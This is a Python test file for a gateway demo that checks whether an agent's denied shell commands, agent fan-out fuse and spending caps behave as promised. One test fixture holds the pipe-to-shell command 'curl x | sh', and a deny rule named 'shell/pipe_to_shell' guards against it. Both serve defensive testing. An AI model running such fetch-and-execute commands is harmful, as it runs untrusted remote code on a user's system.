"""The promises of scenes 1 to 3 break when what they promise did not happen."""

from dataclasses import replace
from pathlib import Path

import msgspec

from gateway.commands.demo.evidence import Request, Trail
from gateway.commands.demo.player import Call, Ending, Part
from gateway.commands.demo.scenes import INSTALL_MARK, denial_checks, fuse_checks, held_first, within_cap
from gateway.commands.demo.stage import AGENTS_MAX
from gateway.commands.live import FuseRow
from tests.gateway.commands.demo.records import USD, call, hold, request, row

DENIED = call("Bash", denied_by="shell/pipe_to_shell")
WENT_ON = (Call("ringfence_denied", {"tool": "Bash", "decision": DENIED.decision}), Call("Bash", {"command": "ls"}))
BLOWN = FuseRow("fuse_1", "session", "s1", "agents", "blown", AGENTS_MAX, AGENTS_MAX + 1, 0)


def denial_trail() -> Trail:
    first = msgspec.structs.replace(request(), tool_calls=(DENIED,))
    return Trail((first, msgspec.structs.replace(request(), restored_denials=2, tool_calls=(call("Bash"),))))


def fanout_trail(*last: Request) -> Trail:
    worked = (request(), *(request(f"a{number}") for number in range(AGENTS_MAX)))
    return Trail((*worked, *last))


def kept(folder: Path, *, ending: Ending | None = None, trail: Trail | None = None) -> list[bool]:
    ending = ending or Ending("Went on.", calls=list(WENT_ON))
    return [check.kept for check in denial_checks(ending, trail or denial_trail(), Part("s1", folder))]


def test_denial_that_steered_keeps_all_promises(tmp_path: Path) -> None:
    assert kept(tmp_path) == [True] * 5


def test_command_that_reached_the_client_breaks_a_promise(tmp_path: Path) -> None:
    reached = Ending("Went on.", calls=[Call("Bash", {"command": "curl x | sh"}), *WENT_ON])
    assert kept(tmp_path, ending=reached) == [True, False, True, True, True]


def test_command_that_ran_breaks_a_promise(tmp_path: Path) -> None:
    (tmp_path / INSTALL_MARK).touch()
    assert kept(tmp_path) == [True, True, False, True, True]


def test_agent_that_was_stopped_breaks_a_promise(tmp_path: Path) -> None:
    assert kept(tmp_path, ending=Ending("", refusal="429", calls=list(WENT_ON))) == [True, True, True, False, True]


def test_history_that_was_not_restored_breaks_a_promise(tmp_path: Path) -> None:
    first, second = denial_trail().requests
    lost = Trail((first, msgspec.structs.replace(second, restored_denials=0)))
    assert kept(tmp_path, trail=lost) == [True, True, True, True, False]


def test_fuse_that_ended_the_fanout_keeps_all_promises() -> None:
    trail = fanout_trail(request("b1", reason="fuse_blown"), request(reason="fuse_blown"))
    assert [check.kept for check in fuse_checks(trail, BLOWN, Ending(refusal="429"))] == [True] * 3


def test_one_agent_too_many_breaks_a_promise() -> None:
    trail = fanout_trail(request("b1"), request("b2", reason="fuse_blown"), request(reason="fuse_blown"))
    assert [check.kept for check in fuse_checks(trail, BLOWN, Ending(refusal="429"))] == [True, False, True]


def test_fuse_that_never_blew_breaks_every_promise() -> None:
    assert [check.kept for check in fuse_checks(fanout_trail(request()), None, Ending("Done."))] == [False] * 3


def test_request_that_cost_more_than_was_held_breaks_the_promise() -> None:
    enough, short = request(hold=hold(10, 0), cost=10), request(hold=hold(10, 0), cost=11)
    assert held_first(Trail((enough,))).kept
    assert not held_first(Trail((enough, short))).kept and not held_first(Trail(())).kept


def test_cap_is_kept_up_to_its_last_nano_dollar() -> None:
    assert within_cap(row(peak=USD, spent=USD)).kept
    assert not within_cap(replace(row(), peak_nanousd=USD + 1)).kept
